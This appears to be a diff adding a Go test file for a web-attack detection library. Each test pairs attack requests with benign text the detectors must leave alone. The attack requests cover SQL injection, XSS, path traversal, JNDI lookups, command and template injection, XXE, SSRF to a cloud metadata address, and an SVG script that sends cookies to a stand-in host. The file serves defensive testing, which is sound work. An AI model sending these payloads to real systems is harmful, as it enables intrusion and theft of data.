@@ -1,0 +1,193 @@
+package detect
+
+import (
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/vigilsec/vigil"
+)
+
+// The classes below were added after an independent holdout corpus
+// (testdata/holdout) showed the detectors missing them. The variants here
+// are written for these tests, not taken from the holdout, and each class
+// comes with the benign text it must leave alone.
+
+func cookie(v string) func(*vigil.Exchange) { return hdr("Cookie", v) }
+
+func TestCookieLeaves(t *testing.T) {
+	tests := []struct {
+		name   string
+		cookie string
+		want   []string // "key=value" of the cookie leaves
+	}{
+		{"decoded, session ids skipped", "PHPSESSID=abc; theme=dark%20mode; sid=s1; cart=%7B%22n%22%3A1%7D",
+			[]string{"theme=dark mode", "cart={\"n\":1}", "n=n", "n=1"}}, // the JSON's key, then its value
+		{"credential names skipped", "auth_token=x; csrftoken=y; api_key=z; lang=en", []string{"lang=en"}},
+		{"quoted value and plus", `pref="a+b"; empty=; =novalue; flag`, []string{"pref=a b"}},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			x := ex("GET", "https://a.test/", cookie(tc.cookie))
+			var got []string
+			for l := range Leaves(&x.Request) {
+				if l.Source == SourceCookie || l.prefix != "" {
+					got = append(got, l.Key+"="+l.Value)
+				}
+			}
+			if !slices.Equal(got, tc.want) {
+				t.Errorf("cookie leaves %q, want %q", got, tc.want)
+			}
+		})
+	}
+}
+
+func TestInjectionInCookies(t *testing.T) {
+	runCases(t, NewSQLi(), "detect.injection.sqli", []detCase{
+		{"sqli in a cookie", ex("GET", "https://a.test/", cookie("lang=en; region=1%27+OR+%271%27%3D%271")), "fingerprint"},
+		{"benign cookies", ex("GET", "https://a.test/", cookie("_ga=GA1.2.1234.5678; consent=%7B%22ads%22%3Afalse%7D; lang=en-GB")), ""},
+		{"a session cookie is never read", ex("GET", "https://a.test/", cookie("session=1' OR '1'='1")), ""},
+	})
+	runCases(t, NewXSS(), "detect.injection.xss", []detCase{
+		{"xss in a cookie", ex("GET", "https://a.test/", cookie("nick=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E")), "libinjection"},
+		{"benign markup-free cookie", ex("GET", "https://a.test/", cookie("recent=shoes%2Cbags%2Chats")), ""},
+	})
+	runCases(t, NewOther(), "detect.injection.other", []detCase{
+		{"traversal in a cookie", ex("GET", "https://a.test/", cookie("tpl=..%2F..%2F..%2Fetc%2Fpasswd")), techTraversal},
+		{"jndi in a cookie", ex("GET", "https://a.test/", cookie("x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.test%2Fa%7D")), techJNDI},
+	})
+}
+
+func TestSQLShape(t *testing.T) {
+	runCases(t, NewSQLi(), "detect.injection.sqli", []detCase{
+		{"quote then hash comment", ex("POST", "https://a.test/login", body("application/x-www-form-urlencoded", "user=root%27%23&pass=x")), "commented out"},
+		{"email, quote, dash comment", ex("POST", "https://a.test/login", body("application/json", `{"user":"ann@shop.test' -- ","pass":"y"}`)), "commented out"},
+		{"stacked select after a sort key", ex("GET", "https://a.test/u?sort=price+asc%3B+select+sleep(4)--"), "stacked SELECT"},
+		{"subquery in a select list", ex("POST", "https://a.test/r", body("application/json", `{"fields":"id,(select case when (2>1) then id else 0 end)"}`)), "subquery"},
+		// libinjection catches these; sqlShape would too.
+		{"quote, paren, dash comment", ex("POST", "https://a.test/login", body("application/json", `{"user":"bob') -- x","pass":"y"}`)), "SQL injection"},
+		{"stacked drop", ex("GET", "https://a.test/u?sort=name%3B+DROP+TABLE+users"), "SQL injection"},
+		{"benign quoted aside", ex("POST", "https://a.test/r", body("application/json", `{"text":"She said \"fine\" -- and left"}`)), ""},
+		{"benign apostrophe and dash", ex("POST", "https://a.test/r", body("application/json", `{"text":"O'Neil -- the best seller"}`)), ""},
+		{"benign semicolon select", ex("POST", "https://a.test/r", body("application/json", `{"text":"Pick a size; select from the list below"}`)), ""},
+		{"benign delete request", ex("POST", "https://a.test/r", body("application/json", `{"text":"Thanks; delete from my wishlist please"}`)), ""},
+		{"benign parenthesised select", ex("POST", "https://a.test/r", body("application/json", `{"text":"(select one option) then continue"}`)), ""},
+		{"benign hashtag", ex("POST", "https://a.test/r", body("application/json", `{"text":"it's #1 in sales"}`)), ""},
+	})
+}
+
+func TestOtherHiddenCommands(t *testing.T) {
+	runCases(t, NewOther(), "detect.injection.other", []detCase{
+		{"brace expansion", ex("GET", "https://a.test/p?host=x%3B%7Bwhoami%2C-a%7D"), "brace expansion"},
+		{"glob spelling", ex("GET", "https://a.test/p?host=x%7C%2Fb%3F%3F%2Fw%3F%3Fami"), "wildcards"},
+		{"windows type", ex("POST", "https://a.test/p", body("application/x-www-form-urlencoded", "dir=x%26%26type+d%3A%5Cboot.ini")), techCmd},
+		{"recon in a markdown span still counts", ex("POST", "https://a.test/r", body("application/json", "{\"c\":\"see `whoami` here\"}")), techCmd},
+		{"benign brace list", ex("POST", "https://a.test/r", body("application/json", `{"c":"Sizes; {S,M,L} in stock"}`)), ""},
+		{"benign question marks", ex("POST", "https://a.test/r", body("application/json", `{"c":"Really?? /now?? ok"}`)), ""},
+		{"benign inline code", ex("POST", "https://a.test/r", body("application/json", "{\"c\":\"Try `npm ci | tail -3` first\"}")), ""},
+		{"benign fenced code", ex("POST", "https://a.test/r", body("application/json", "{\"c\":\"```bash\\nmake test\\n```\"}")), ""},
+	})
+}
+
+func TestOtherTemplatesAndXML(t *testing.T) {
+	runCases(t, NewOther(), "detect.injection.other", []detCase{
+		{"velocity runtime", ex("GET", "https://a.test/p?n=%23set(%24a%3D%27%27)%23set(%24r%3D%24a.getClass().forName(%27java.lang.Runtime%27))"), techSSTI},
+		{"smarty system", ex("POST", "https://a.test/p", body("application/json", `{"n":"{system('uname')}"}`)), techSSTI},
+		{"twig filter callback", ex("POST", "https://a.test/p", body("application/json", `{"n":"{{['cat /etc/hostname']|map('passthru')}}"}`)), techSSTI},
+		{"external DTD", ex("POST", "https://a.test/x", body("application/xml", `<?xml version="1.0"?><!DOCTYPE a PUBLIC "-//X//Y" "http://evil.test/a.dtd"><a/>`)), "external DTD"},
+		{"entity expansion", ex("POST", "https://a.test/x", body("application/xml", `<!DOCTYPE a [<!ENTITY x "xx"><!ENTITY y "&x;&x;&x;">]><a>&y;</a>`)), "expand"},
+		{"benign velocity-free hash", ex("POST", "https://a.test/p", body("application/json", `{"n":"Order #set(3) shipped"}`)), ""},
+		{"benign twig filter", ex("POST", "https://a.test/p", body("application/json", `{"n":"{{ user.name | upper }}"}`)), ""},
+		{"benign internal entity", ex("POST", "https://a.test/x", body("application/xml", `<!DOCTYPE n [<!ENTITY w "Jane">]><n>&w;</n>`)), ""},
+		{"benign html doctype", ex("POST", "https://a.test/x", body("text/html", `<!DOCTYPE html><html><body>hi</body></html>`)), ""},
+	})
+}
+
+func TestScriptURLCharRefs(t *testing.T) {
+	runCases(t, NewXSS(), "detect.injection.xss", []detCase{
+		{"tab reference", ex("GET", "https://a.test/p?next=java%26%23x09%3Bscript%3Aalert(1)"), "script URL"},
+		{"named colon", ex("GET", "https://a.test/p?next=javascript%26colon%3Balert(1)"), "script URL"},
+		{"decimal letters", ex("GET", "https://a.test/p?next=%26%23118vbscript%3Amsgbox"), ""}, // "vvbscript:": not a scheme
+		{"benign ampersand", ex("GET", "https://a.test/p?q=Tom+%26+Jerry%3A+java+script"), ""},
+	})
+}
+
+// TestSQLShapeClasses checks sqlShape alone, also on what libinjection
+// already catches: each shape must hold without it.
+func TestSQLShapeClasses(t *testing.T) {
+	tests := []struct{ v, want string }{
+		{"admin'#", "commented out"},
+		{"x') /* y", "commented out"},
+		{`bob" -- `, "commented out"},
+		{"1; DROP TABLE users", "stacked DROP"},
+		{"5; waitfor delay '0:0:5'", "stacked WAITFOR"},
+		{"x'; exec xp_cmdshell 'dir'--", "commented out"},
+		{"a; insert into t values(1)", "stacked INSERT"},
+		{"(select if(1=1,sleep(3),0))", "subquery"},
+		{"(SELECT @@version)", "subquery"},
+		{"it's #1", ""},
+		{`a "b" -- c`, ""},
+		{"lunch; select a table by the window", ""},
+		{"(select all that apply)", ""},
+		{"tea; update me when it ships", ""},
+		{"drop-off; create an account", ""},
+	}
+	for _, tc := range tests {
+		got := sqlShape(tc.v)
+		if tc.want == "" && got != "" || tc.want != "" && !strings.Contains(got, tc.want) {
+			t.Errorf("sqlShape(%q) = %q, want %q", tc.v, got, tc.want)
+		}
+	}
+}
+
+func TestInjectionInXMLValues(t *testing.T) {
+	soap := func(inner string) func(*vigil.Exchange) {
+		return body("text/xml; charset=utf-8", `<?xml version="1.0"?><env:Envelope xmlns:env="http://schemas.xmlsoap.org/soap/envelope/"><env:Body><m:Find xmlns:m="urn:m">`+inner+`</m:Find></env:Body></env:Envelope>`)
+	}
+	runCases(t, NewSQLi(), "detect.injection.sqli", []detCase{
+		{"sqli behind &apos;", ex("POST", "https://a.test/soap", soap(`<m:name>x&apos; OR &apos;1&apos;=&apos;1</m:name>`)), "fingerprint"},
+		{"sqli in an attribute", ex("POST", "https://a.test/soap", soap(`<m:item id="1 UNION SELECT pass FROM users--"/>`)), "fingerprint"},
+		{"benign soap", ex("POST", "https://a.test/soap", soap(`<m:name>O&apos;Brien</m:name><m:note>select the 2nd option</m:note>`)), ""},
+	})
+	runCases(t, NewSSRF(), "detect.ssrf", []detCase{
+		{"ssrf in an xml url field", ex("POST", "https://a.test/soap", soap(`<m:callbackUrl>http://169.254.169.254/latest/meta-data/</m:callbackUrl>`)), "metadata"},
+		{"benign public callback", ex("POST", "https://a.test/soap", soap(`<m:callbackUrl>https://hooks.partner.example/cb</m:callbackUrl>`)), ""},
+	})
+}
+
+func TestOtherMoreClasses(t *testing.T) {
+	runCases(t, NewOther(), "detect.injection.other", []detCase{
+		{"nosql operator as a query name", ex("GET", "https://a.test/s?%24where=this.a%3D%3Dthis.b"), "runs code"},
+		{"nul between dots and slash", ex("POST", "https://a.test/f", body("application/json", `{"doc":"..%00/..%00/..%00/etc/shadow"}`)), techTraversal},
+		{"quote-split command", ex("GET", "https://a.test/p?host=1.1.1.1%3Bu%22n%22ame+-a"), "split by quotes"},
+		{"backslash-split command", ex("GET", "https://a.test/p?host=x%7Cwh%5Coami"), "split by quotes"},
+		{"jinja attr chain", ex("POST", "https://a.test/t", body("application/json", `{"t":"{{ ''|attr('__class__') }}"}`)), techSSTI},
+		{"erb file read", ex("POST", "https://a.test/t", body("application/json", `{"t":"<%= File.open('/etc/hosts').read %>"}`)), techSSTI},
+		{"xxe in an uploaded svg", ex("POST", "https://a.test/u", body("multipart/form-data; boundary=B",
+			"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n"+
+				`<?xml version="1.0"?><!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/hostname">]><svg><text>&e;</text></svg>`+"\r\n--B--\r\n")), techXXE},
+		{"benign odata name", ex("GET", "https://a.test/s?%24top=10&%24filter=name+eq+%27x%27"), ""},
+		{"benign line starting with a word and a semicolon", ex("POST", "https://a.test/m", body("application/json", `{"m":"Call me back\n\nCat; dog and bird food"}`)), ""},
+		{"benign possessive and semicolon", ex("POST", "https://a.test/m", body("application/json", `{"m":"it's late; don't wait"}`)), ""},
+		{"benign uploaded svg", ex("POST", "https://a.test/u", body("multipart/form-data; boundary=B",
+			"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n"+
+				`<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>`+"\r\n--B--\r\n")), ""},
+	})
+	runCases(t, NewSQLi(), "detect.injection.sqli", []detCase{
+		{"benign code condition", ex("POST", "https://a.test/q", body("application/json", `{"q":"if (total > 0 && !order.paid) { remind(); }"}`)), ""},
+	})
+}
+
+func TestActiveUploads(t *testing.T) {
+	upload := func(name, ct, content string) func(*vigil.Exchange) {
+		return body("multipart/form-data; boundary=B", "--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\""+name+
+			"\"\r\nContent-Type: "+ct+"\r\n\r\n"+content+"\r\n--B--\r\n")
+	}
+	runCases(t, NewXSS(), "detect.injection.xss", []detCase{
+		{"svg script element", ex("POST", "https://a.test/u", upload("a.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('//x.test/'+document.cookie)</script></svg>`)), "script element"},
+		{"svg onload", ex("POST", "https://a.test/u", upload("b.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)), "event-handler"},
+		{"html javascript link", ex("POST", "https://a.test/u", upload("c.html", "text/html", `<html><a href="javascript:alert(1)">x</a></html>`)), "script URL"},
+		{"benign svg", ex("POST", "https://a.test/u", upload("d.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><text>Say hi on Monday = fun</text></svg>`)), ""},
+		{"benign png", ex("POST", "https://a.test/u", upload("e.png", "image/png", "\x89PNG\r\n\x1a\n<script>")), ""},
+	})
+}
